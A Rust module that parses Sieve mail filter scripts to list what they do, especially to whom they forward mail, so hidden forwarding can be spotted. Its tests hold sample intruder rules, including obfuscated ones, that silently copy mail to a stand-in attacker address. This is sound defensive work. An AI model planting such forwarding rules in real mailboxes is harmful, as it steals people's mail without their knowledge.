//! What a mail filter does with mail, read from its text (RFC 5228): above all, to whom it sends it.
//!
//! The mail software runs only filters that it could compile. This reader is for showing what they do, so it takes anything,
//! never fails, and would rather say too much than miss an address.

mod strings;
mod token;
mod variables;

use std::collections::BTreeSet;

pub use strings::shown;
use token::{Token, Tokens};
use variables::Variables;

/// Something a filter may do with a message, in the order of how much it matters to its owner.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Deed {
    /// `redirect` (RFC 5228, section 4.2): the message goes to somebody.
    Forward {
        /// To whom. May hold `${…}` where the filter works it out from the message.
        to: String,
        /// `:copy` (RFC 3894): the owner keeps one too.
        copy: bool,
    },
    /// `notify` (RFC 5435) or `report`: somebody is told of the message, possibly with its content.
    Tell {
        /// An address, or another place as a URI.
        to: String,
    },
    /// `pipe`, `filter` and `execute`: a program on the server gets the message.
    Program,
    /// `discard`: the message is thrown away.
    Discard,
    /// `reject` and `ereject` (RFC 5429): the message goes back.
    Refuse,
    /// `vacation` (RFC 5230): the sender gets an answer.
    Answer,
    /// `include` (RFC 6609): another filter is run.
    Include {
        /// Its name.
        name: String,
        /// Whether it is the owner's own, and not one of the server's.
        own: bool,
    },
    /// `fileinto`: the message is put into a folder.
    File {
        /// Its name.
        folder: String,
    },
}

impl Deed {
    /// Whether mail leaves the mailbox, or is kept from its owner.
    #[must_use]
    pub const fn is_worth_a_look(&self) -> bool {
        matches!(
            self,
            Self::Forward { .. } | Self::Tell { .. } | Self::Program | Self::Discard | Self::Refuse
        )
    }
}

/// Everything that a filter may do, each deed once, the weightiest first. Conditions are not weighed: what may happen is listed.
#[must_use]
pub fn deeds(script: &str) -> Vec<Deed> {
    let tokens: Vec<Token> = Tokens::new(script).collect();
    let variables = Variables::of(&tokens);
    let mut found = BTreeSet::new();
    for (name, arguments) in commands(&tokens) {
        deeds_of(&name, arguments, &variables, &mut found);
    }
    found.into_iter().collect()
}

/// Every command with its arguments. A command stands at the beginning, behind `;` and around `{ }`.
fn commands(tokens: &[Token]) -> impl Iterator<Item = (String, &[Token])> {
    tokens
        .split(|token| matches!(token, Token::Mark(';' | '{' | '}')))
        .filter_map(|piece| match piece.split_first() {
            Some((Token::Word(name), arguments)) => Some((name.to_ascii_lowercase(), arguments)),
            _ => None,
        })
}

fn deeds_of(name: &str, arguments: &[Token], variables: &Variables, found: &mut BTreeSet<Deed>) {
    let tagged = |wanted: &str| {
        arguments
            .iter()
            .any(|token| matches!(token, Token::Tag(tag) if tag.eq_ignore_ascii_case(wanted)))
    };
    let last = || {
        let text = arguments.iter().rev().find_map(Token::text);
        text.map_or_else(Vec::new, |text| variables.readings(text))
    };
    match name {
        "redirect" => {
            let copy = tagged("copy");
            found.extend(last().into_iter().map(|to| Deed::Forward { to, copy }));
        }
        // Before RFC 5435 the addresses stood behind :options.
        "notify" if tagged("method") || tagged("options") => {
            let texts = arguments.iter().filter_map(Token::text);
            let places = texts.filter(|text| text.contains('@') || text.contains("${"));
            let places = places.flat_map(|text| variables.readings(text));
            found.extend(places.map(|to| Deed::Tell { to }));
        }
        "notify" | "report" => {
            let places = last().into_iter().map(|to| strings::without_mailto(&to));
            found.extend(places.map(|to| Deed::Tell { to }));
        }
        "pipe" | "filter" | "execute" => {
            found.insert(Deed::Program);
        }
        "discard" => {
            found.insert(Deed::Discard);
        }
        "reject" | "ereject" => {
            found.insert(Deed::Refuse);
        }
        "vacation" => {
            found.insert(Deed::Answer);
        }
        "include" => {
            let own = !tagged("global");
            found.extend(last().into_iter().map(|name| Deed::Include { name, own }));
        }
        "fileinto" => {
            found.extend(last().into_iter().map(|folder| Deed::File { folder }));
        }
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn forward(to: &str, copy: bool) -> Deed {
        Deed::Forward {
            to: to.into(),
            copy,
        }
    }

    #[test]
    fn the_forwarding_rule_an_intruder_leaves() {
        let script = "require [\"copy\"];\nredirect :copy \"attacker@evil.invalid\";\n";
        assert_eq!(deeds(script), [forward("attacker@evil.invalid", true)]);
    }

    #[test]
    fn however_it_is_written() {
        for script in [
            "REDIRECT \"a@evil.invalid\";",
            "if true { redirect\n# to whom?\n/* no \"b@c\" here; */ \"a@evil.invalid\"; }",
            "if header :contains \"subject\" [\"x\", \"redirect\"] {keep;} elsif not true {} else {redirect \"a@evil.invalid\";}",
            "redirect text: # as a block\r\na@evil.invalid\r\n.\r\n;",
            "require \"encoded-character\"; redirect \"a${hex:40}evil${unicode:2e}invalid\";",
            "require \"variables\"; set \"who\" \"a@evil\"; redirect \"${WHO}.invalid\";",
            "set \"x\" \"evil\"; set :lower \"who\" \"a@${x}\"; redirect \"${who}.invalid\";",
            "redirect :notify \"NEVER\" :ret \"FULL\" \"a@\\evil.invalid\"",
        ] {
            assert_eq!(
                deeds(script),
                [forward("a@evil.invalid", false)],
                "{script}"
            );
        }
    }

    #[test]
    fn a_variable_with_two_values_gives_both_and_one_without_stays() {
        let script = "set \"w\" \"a@x\"; if true { set \"w\" \"b@x\"; } redirect \"${w}\"; redirect \"${1}@x\";";
        let to = deeds(script);
        assert_eq!(
            to,
            [
                forward("${1}@x", false),
                forward("a@x", false),
                forward("b@x", false)
            ]
        );
        // Variables that hold themselves come to an end.
        assert!(!deeds("set \"a\" \"${a}${a}\"; redirect \"${a}\";").is_empty());
    }

    #[test]
    fn what_is_only_spoken_of_is_no_deed() {
        for script in [
            "# redirect \"a@b\";\nkeep;",
            "/* redirect \"a@b\"; */",
            "vacation text:\nredirect \"a@b\";\n.\n;",
            "fileinto \"redirect \\\"a@b\\\";\";",
            "if header \"redirect\" \"x\" { stop; }",
            "",
        ] {
            assert!(
                !deeds(script)
                    .iter()
                    .any(|deed| matches!(deed, Deed::Forward { .. })),
                "{script}"
            );
        }
    }

    #[test]
    fn everything_else_it_may_do_the_weightiest_first() {
        let script = "require [\"fileinto\"]; fileinto :create \"Notes\"; include :personal \"more\"; include :global \"spam\"; \
                      vacation :days 7 \"away\"; reject \"no\"; discard; pipe :copy \"print\" [\"a\"]; \
                      notify :message \"${subject}\" \"mailto:b%40evil.invalid?subject=x\"; \
                      notify :method \"mailto\" :options [\"c@evil.invalid\"]; redirect :copy \"a@evil.invalid\"; discard;";
        let tell = |to: &str| Deed::Tell { to: to.into() };
        let include = |name: &str, own| Deed::Include {
            name: name.into(),
            own,
        };
        assert_eq!(
            deeds(script),
            [
                forward("a@evil.invalid", true),
                tell("b@evil.invalid?subject=x"),
                tell("c@evil.invalid"),
                Deed::Program,
                Deed::Discard,
                Deed::Refuse,
                Deed::Answer,
                include("more", true),
                include("spam", false),
                Deed::File {
                    folder: "Notes".into()
                },
            ]
        );
    }

    #[test]
    fn what_would_turn_a_page_around_is_not_shown() {
        assert_eq!(
            deeds("redirect \"a\u{202e}b\n@c\";"),
            [forward("a\u{fffd}b\u{fffd}@c", false)]
        );
        let long = deeds(&format!("redirect \"{}@x\";", "a".repeat(5000)));
        assert!(matches!(&long[..], [Deed::Forward { to, .. }] if to.chars().count() <= 321));
    }

    proptest! {
        #[test]
        fn any_text_is_read(script in any::<String>()) {
            let _ = deeds(&script);
        }

        #[test]
        fn anything_like_a_filter_is_read(
            pieces in proptest::collection::vec(prop_oneof![
                Just("redirect".to_owned()), Just("text:\n".to_owned()), Just("\n.\n".to_owned()), Just("/*".to_owned()),
                Just("*/".to_owned()), Just("\"".to_owned()), Just("\\".to_owned()), Just("#".to_owned()), Just("${".to_owned()),
                Just("}".to_owned()), Just("${hex:".to_owned()), Just("set \"a\" \"${a}\";".to_owned()), Just("[".to_owned()),
                Just(";".to_owned()), Just(":copy ".to_owned()), Just("é\u{10ffff}".to_owned()),
            ], 0..40),
        ) {
            let _ = deeds(&pieces.concat());
        }

        #[test]
        fn a_forwarding_rule_is_found_wherever_it_stands(
            before in "(keep;|stop;|if true \\{|# x\n|/\\* x \\*/|fileinto \"a b\";|set \"v\" \"w\";){0,8}",
            local in "[a-z0-9.]{1,12}",
            copy in any::<bool>(),
        ) {
            let tag = if copy { ":copy" } else { "" };
            let script = format!("{before}\nredirect {tag} \"{local}@evil.invalid\";");
            let wanted = forward(&format!("{local}@evil.invalid"), copy);
            prop_assert!(deeds(&script).contains(&wanted), "{}", script);
        }
    }
}
